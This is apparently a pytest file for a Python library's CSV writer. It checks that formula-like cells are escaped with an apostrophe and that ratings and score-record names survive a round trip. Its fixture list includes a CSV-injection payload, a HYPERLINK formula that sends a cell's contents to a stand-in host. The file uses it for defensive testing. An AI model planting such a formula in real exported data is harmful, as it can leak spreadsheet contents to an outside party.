"""nimakit.io.delimited: tables whose cells never become formulas, and which are read back unchanged."""

import csv
import io
from pathlib import Path

import numpy as np
import pytest

from nimakit.io.delimited import TableWriter, escape_formula, unescape_formula
from nimakit.io.tables import BadRows, read_rows
from nimakit.labels.ratings import Ratings, read_ratings, write_ratings
from nimakit.scoring.records import RecordWriter

SOURCE = Path(__file__).parents[2] / "src" / "nimakit"

FORMULAS = [
    '=HYPERLINK("http://a.example/?" & A1)',
    "+1+1",
    "-1+1",
    "-x.jpg",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "'=1",
    "''=1",
    "'-5",
]
PLAIN = ["", "a", "-1", "-1.5e-07", "+3", "1-1", "it's", "'a", "''", "a=b", "7@x"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_like_a_formula_is_written_as_text(text: str) -> None:
    """A spreadsheet sees an apostrophe first; what is read back is what was written."""
    assert escape_formula(text) == f"'{text}"
    assert unescape_formula(escape_formula(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_is(text: str) -> None:
    """Numbers keep their sign, and apostrophes are not lost."""
    assert escape_formula(text) == unescape_formula(text) == text


def test_numbers_are_written_as_numbers() -> None:
    """A cell that is no text has nothing to hide."""
    stream = io.StringIO()
    TableWriter(stream).row([-1, -0.5, None, "=1", True])
    assert stream.getvalue() == "-1,-0.5,,'=1,True\n"


def test_names_of_ratings_come_back_as_they_were(tmp_path: Path) -> None:
    """Raters and images whose names begin like formulas, or like what hides them."""
    names = tuple(name for name in FORMULAS if "/" not in name and name == name.strip())
    places = np.arange(len(names))
    given = Ratings(
        image_ids=names,
        user_ids=names,
        image=places,
        user=places,
        rating=np.ones(len(names)),
        time=np.full(len(names), np.nan),
    )
    write_ratings(tmp_path / "r.csv", given)
    cells = [cell for row in csv.reader((tmp_path / "r.csv").read_text().splitlines()) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    back = read_ratings(tmp_path / "r.csv", rows=BadRows())
    assert set(back.image_ids) == {name.removesuffix(".jpg") for name in names}
    assert back.user_ids == names


def test_names_of_score_records_come_back_as_they_were(tmp_path: Path) -> None:
    """A picture may have any name, and its error may repeat it."""
    path = tmp_path / "p.csv"
    with path.open("w", newline="") as stream:
        writer = RecordWriter(stream, "p.csv", ".csv")
        for name in FORMULAS:
            writer.write({"image_id": name, "error": f"{name}: broken"})
    rows = list(read_rows(path, ["image_id", "error"], BadRows()))
    assert [row.values for row in rows] == [(name, f"{name}: broken") for name in FORMULAS]


def test_no_other_module_writes_or_reads_rows_itself() -> None:
    """There is one place to hide formulas at."""
    named = {path.name for path in SOURCE.rglob("*.py") if "csv.writer" in path.read_text("utf-8")}
    named |= {path.name for path in SOURCE.rglob("*.py") if "csv.DictWriter" in path.read_text("utf-8")}
    assert named == {"delimited.py"}
